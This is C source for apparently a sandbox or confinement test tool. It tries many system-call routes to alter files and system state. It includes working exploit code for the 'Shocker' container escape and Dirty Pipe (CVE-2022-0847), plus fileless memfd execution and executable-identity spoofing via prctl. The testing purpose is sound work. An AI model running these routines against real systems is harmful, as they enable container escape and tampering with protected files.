// SPDX-License-Identifier: GPL-2.0-or-later
/* Ways to what a file holds, and to its name, that a shell does not have. */
#include <errno.h>
#include <fcntl.h>
#include <linux/falloc.h>
#include <linux/fs.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/swap.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

#include "tool.h"

#define EXT4_IOC_SWAP_BOOT _IO('f', 17)
#define FS_IOC_SETVERSION_ _IOW('v', 2, long)

static int open_as(const char *path, int flags)
{
	return open(path, flags | O_CLOEXEC, 0644);
}

static int by_descriptor(const char *path, int first, int second)
{
	char name[64];
	int fd = open_as(path, first);

	if (fd < 0)
		return fail("open");
	snprintf(name, sizeof(name), "/proc/self/fd/%d", fd);
	fd = open_as(name, second);
	return fd < 0 ? fail("open of /proc/self/fd") : deface(fd);
}

static int reopen_path(int n, char **args)
{
	(void)n;
	return by_descriptor(args[0], O_PATH, O_WRONLY | O_TRUNC);
}

static int reopen_read(int n, char **args)
{
	(void)n;
	return by_descriptor(args[0], O_RDONLY, O_RDWR);
}

/* handle MOUNT FILE: by its handle, on a descriptor of any place of the same file system. */
static int by_handle(int n, char **args)
{
	union {
		struct file_handle handle;
		char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
	} u = { .handle.handle_bytes = MAX_HANDLE_SZ };
	int mount_id, at, fd;

	(void)n;
	if (name_to_handle_at(AT_FDCWD, args[1], &u.handle, &mount_id, 0) < 0)
		return fail("name_to_handle_at");
	at = open_as(args[0], O_RDONLY);
	if (at < 0)
		return fail("open");
	fd = open_by_handle_at(at, &u.handle, O_WRONLY | O_TRUNC);
	return fd < 0 ? fail("open_by_handle_at") : deface(fd);
}

/* The file system's root, inode 2, by a handle made up from nothing: "Shocker". */
static int shocked(const char *any)
{
	union {
		struct file_handle handle;
		char room[sizeof(struct file_handle) + 8];
	} u = { .handle = { .handle_bytes = 8, .handle_type = 1 } };
	const uint32_t root = 2;
	int at = open_as(any, O_RDONLY);

	memcpy(u.handle.f_handle, &root, 4);
	return at < 0 ? at : open_by_handle_at(at, &u.handle, O_RDONLY | O_DIRECTORY);
}

/* shocker ANY PATH: PATH from that root, written to. */
static int shocker(int n, char **args)
{
	int root = shocked(args[0]), fd;

	(void)n;
	if (root < 0)
		return fail("open_by_handle_at");
	fd = openat(root, args[1] + 1, O_WRONLY | O_TRUNC);
	return fd < 0 ? fail("openat") : deface(fd);
}

static int shocker_read(int n, char **args)
{
	int root = shocked(args[0]), fd;
	char text[256];
	ssize_t size;

	(void)n;
	if (root < 0)
		return fail("open_by_handle_at");
	fd = openat(root, args[1] + 1, O_RDONLY);
	size = fd < 0 ? -1 : read(fd, text, sizeof(text));
	return size < 0 ? fail("openat") : write(1, text, (size_t)size) != size;
}

static int exchange(int n, char **args)
{
	(void)n;
	return syscall(SYS_renameat2, AT_FDCWD, args[0], AT_FDCWD, args[1], RENAME_EXCHANGE) < 0
		       ? fail("renameat2")
		       : 0;
}

static int open_both(char **args, int *ret_from, int *ret_to)
{
	*ret_from = open_as(args[0], O_RDONLY);
	*ret_to = open_as(args[1], O_WRONLY);
	return *ret_from < 0 || *ret_to < 0 ? fail("open") : 0;
}

static int copy_range(int n, char **args)
{
	int from, to, r = open_both(args, &from, &to);

	(void)n;
	if (r)
		return r;
	return copy_file_range(from, NULL, to, NULL, 8, 0) == 8 ? 0 : fail("copy_file_range");
}

static int splice_into(int n, char **args)
{
	int from, to, pipes[2], r = open_both(args, &from, &to);

	(void)n;
	if (r)
		return r;
	if (pipe(pipes) < 0 || splice(from, NULL, pipes[1], NULL, 8, 0) != 8 ||
	    splice(pipes[0], NULL, to, NULL, 8, 0) != 8)
		return fail("splice");
	return 0;
}

/* CVE-2022-0847: a pipe whose buffers may be merged takes a page of the file, and is then written to. */
static int dirty_pipe(int n, char **args)
{
	int fd = open_as(args[0], O_RDONLY), pipes[2];
	loff_t at = 0;
	char fill[4096] = { 0 };

	(void)n;
	if (fd < 0 || pipe(pipes) < 0)
		return fail("open");
	for (int i = 0; i < 16; i++)
		if (write(pipes[1], fill, sizeof(fill)) < 0)
			return fail("write");
	for (int i = 0; i < 16; i++)
		if (read(pipes[0], fill, sizeof(fill)) < 0)
			return fail("read");
	if (splice(fd, &at, pipes[1], NULL, 1, 0) != 1)
		return fail("splice");
	return deface(pipes[1]);
}

/* The file's own pages, spliced out, mapped or not, and given as a gift with other content. */
static int vmsplice_over(int n, char **args)
{
	int fd = open_as(args[0], O_RDONLY), pipes[2];
	char *page = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE, fd, 0);
	struct iovec vector = { page, 4096 };

	(void)n;
	if (fd < 0 || page == MAP_FAILED || pipe(pipes) < 0)
		return fail("open");
	if (vmsplice(pipes[1], &vector, 1, SPLICE_F_GIFT) < 0)
		return fail("vmsplice");
	memcpy(page, "defaced\n", 8); /* a copy: the mapping is private */
	if (splice(pipes[0], NULL, fd, NULL, 4096, SPLICE_F_MOVE) < 0)
		return fail("splice");
	return 0;
}

static int clone_over(int n, char **args)
{
	int from, to, r = open_both(args, &from, &to);

	(void)n;
	return r ? r : ioctl(to, FICLONE, from) < 0 ? fail("FICLONE") : 0;
}

static int allocate(const char *path, int mode)
{
	int fd = open_as(path, O_RDWR);

	if (fd < 0)
		return fail("open");
	return fallocate(fd, mode, 0, 4096) < 0 ? fail("fallocate") : 0;
}

static int punch(int n, char **args)
{
	(void)n;
	return allocate(args[0], FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE);
}

static int collapse(int n, char **args)
{
	(void)n;
	return allocate(args[0], FALLOC_FL_COLLAPSE_RANGE);
}

static int map_write(int n, char **args)
{
	int fd = open_as(args[0], O_RDWR);
	char *page = fd < 0 ? MAP_FAILED
			    : mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);

	(void)n;
	if (page == MAP_FAILED)
		return fail("open, mmap");
	memcpy(page, "defaced\n", 8);
	return msync(page, 4096, MS_SYNC) < 0 ? fail("msync") : 0;
}

static int truncate_read_only(int n, char **args)
{
	(void)n;
	return open_as(args[0], O_RDONLY | O_TRUNC) < 0 ? fail("open") : 0;
}

static int set_flags(int n, char **args)
{
	int fd = open_as(args[0], O_RDONLY);
	unsigned int flags = FS_NODUMP_FL;

	(void)n;
	return fd < 0 || ioctl(fd, FS_IOC_SETFLAGS, &flags) < 0 ? fail("FS_IOC_SETFLAGS") : 0;
}

static int set_version(int n, char **args)
{
	int fd = open_as(args[0], O_RDONLY);
	long version = 4711;

	(void)n;
	return fd < 0 || ioctl(fd, FS_IOC_SETVERSION_, &version) < 0 ? fail("FS_IOC_SETVERSION")
								     : 0;
}

static int swap_boot(int n, char **args)
{
	int fd = open_as(args[0], O_RDONLY);

	(void)n;
	return fd < 0 || ioctl(fd, EXT4_IOC_SWAP_BOOT) < 0 ? fail("EXT4_IOC_SWAP_BOOT") : 0;
}

/* memfd PROGRAM ARG...: the program runs from memory, without a name. */
static int from_memory(int n, char **args)
{
	extern char **environ;
	int from = open_as(args[0], O_RDONLY), fd = memfd_create("", MFD_CLOEXEC);
	char piece[65536];
	ssize_t size;

	(void)n;
	if (from < 0 || fd < 0)
		return fail("open");
	while ((size = read(from, piece, sizeof(piece))) > 0)
		if (write(fd, piece, (size_t)size) != size)
			return fail("write");
	fexecve(fd, args, environ);
	return fail("fexecve");
}

/* The own program's pages become anonymous ones of the same content: PR_SET_MM_MAP wants none of the old program mapped. */
static int leave_file(void)
{
	struct {
		unsigned long start, end;
		int protection;
	} part[32];
	char line[512], mode[8], path[256];
	unsigned long inode;
	int n = 0;
	FILE *maps = fopen("/proc/self/maps", "re");

	while (maps && n < 32 && fgets(line, sizeof(line), maps)) {
		if (sscanf(line, "%lx-%lx %7s %*s %*s %lu %255s", &part[n].start, &part[n].end,
			   mode, &inode, path) < 4 ||
		    !inode)
			continue;
		part[n].protection = (mode[0] == 'r' ? PROT_READ : 0) |
				     (mode[1] == 'w' ? PROT_WRITE : 0) |
				     (mode[2] == 'x' ? PROT_EXEC : 0);
		n++;
	}
	for (int i = 0; i < n; i++) {
		size_t size = part[i].end - part[i].start;
		void *copy = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS,
				  -1, 0);

		if (copy == MAP_FAILED)
			return -1;
		memcpy(copy, (void *)part[i].start, size);
		mprotect(copy, size, part[i].protection);
		if (mremap(copy, size, size, MREMAP_MAYMOVE | MREMAP_FIXED,
			   (void *)part[i].start) == MAP_FAILED)
			return -1;
	}
	return 0;
}

/* What the kernel knows of the layout, by the fields of /proc/self/stat (proc(5)); it has to be said again. */
static int read_layout(struct prctl_mm_map *ret)
{
	unsigned long value[53] = { 0 };
	char line[1024];
	const char *fields;
	FILE *stat = fopen("/proc/self/stat", "re");

	if (!stat || !fgets(line, sizeof(line), stat))
		return -1;
	fields = strrchr(line, ')') + 2;
	for (int field = 3; fields && field <= 51; field++) {
		value[field] = strtoul(fields, NULL, 10);
		fields = strchr(fields, ' ');
		fields = fields ? fields + 1 : NULL;
	}
	*ret = (struct prctl_mm_map){ .start_code = value[26],
				      .end_code = value[27],
				      .start_data = value[45],
				      .end_data = value[46],
				      .start_brk = value[47],
				      .brk = (unsigned long)sbrk(0),
				      .start_stack = value[28],
				      .arg_start = value[48],
				      .arg_end = value[49],
				      .env_start = value[50],
				      .env_end = value[51] };
	return 0;
}

/* fake-exe PROGRAM FILE: has the kernel believe that it runs PROGRAM, and writes to FILE. */
static int fake_exe(int n, char **args)
{
	int exe = open_as(args[0], O_RDONLY), fd;
	struct prctl_mm_map map;

	(void)n;
	if (exe < 0 || read_layout(&map) < 0)
		return fail("open");
	map.exe_fd = (unsigned int)exe;
	if (leave_file() < 0)
		return fail("mremap");
	if (prctl(PR_SET_MM, PR_SET_MM_MAP, &map, sizeof(map), 0) < 0)
		return fail("PR_SET_MM_MAP");
	fd = open_as(args[1], O_WRONLY | O_APPEND);
	return fd < 0 ? fail("open") : deface(fd);
}

static int account(int n, char **args)
{
	int r;

	(void)n;
	r = acct(args[0]) < 0 ? fail("acct") : 0;
	acct(NULL);
	return r;
}

static int swap_on(int n, char **args)
{
	(void)n;
	return swapon(args[0], 0) < 0 ? fail("swapon") : 0;
}

/* move-mount FROM TO: by the newer calls. */
static int attach_tree(int n, char **args)
{
	int tree = (int)syscall(SYS_open_tree, AT_FDCWD, args[0], 1 /* OPEN_TREE_CLONE */);

	(void)n;
	if (tree < 0)
		return fail("open_tree");
	return syscall(SYS_move_mount, tree, "", AT_FDCWD, args[1], 4 /* F_EMPTY_PATH */) < 0
		       ? fail("move_mount")
		       : 0;
}

/* fs-mount TYPE DIRECTORY OPTION[=VALUE]...: by the newer calls, one option after the other. */
static int mount_by_context(int n, char **args)
{
	int context = (int)syscall(SYS_fsopen, args[0], 0), mount;

	if (context < 0)
		return fail("fsopen");
	for (int i = 2; i < n; i++) {
		char *value = strchr(args[i], '=');

		if (value)
			*value++ = '\0';
		if (syscall(SYS_fsconfig, context, value ? 1 : 0 /* a string, a flag */, args[i],
			    value, 0) < 0)
			return fail("fsconfig");
	}
	if (syscall(SYS_fsconfig, context, 6 /* CMD_CREATE */, NULL, NULL, 0) < 0)
		return fail("fsconfig: create");
	mount = (int)syscall(SYS_fsmount, context, 0, 0);
	if (mount < 0 || syscall(SYS_move_mount, mount, "", AT_FDCWD, args[1], 4) < 0)
		return fail("fsmount, move_mount");
	return 0;
}

static int host_name(int n, char **args)
{
	(void)n;
	return sethostname(args[0], strlen(args[0])) < 0 ? fail("sethostname") : 0;
}

const struct verb content_verbs[] = {
	{ "reopen-path", 1, reopen_path },
	{ "reopen-read", 1, reopen_read },
	{ "handle", 2, by_handle },
	{ "shocker", 2, shocker },
	{ "shocker-read", 2, shocker_read },
	{ "exchange", 2, exchange },
	{ "copy-range", 2, copy_range },
	{ "splice", 2, splice_into },
	{ "dirty-pipe", 1, dirty_pipe },
	{ "vmsplice", 1, vmsplice_over },
	{ "clone", 2, clone_over },
	{ "punch", 1, punch },
	{ "collapse", 1, collapse },
	{ "map-write", 1, map_write },
	{ "truncate-read-only", 1, truncate_read_only },
	{ "set-flags", 1, set_flags },
	{ "set-version", 1, set_version },
	{ "swap-boot", 1, swap_boot },
	{ "memfd", 1, from_memory },
	{ "fake-exe", 2, fake_exe },
	{ "acct", 1, account },
	{ "swapon", 1, swap_on },
	{ "move-mount", 2, attach_tree },
	{ "fs-mount", 2, mount_by_context },
	{ "hostname", 1, host_name },
	{ NULL, 0, NULL },
};
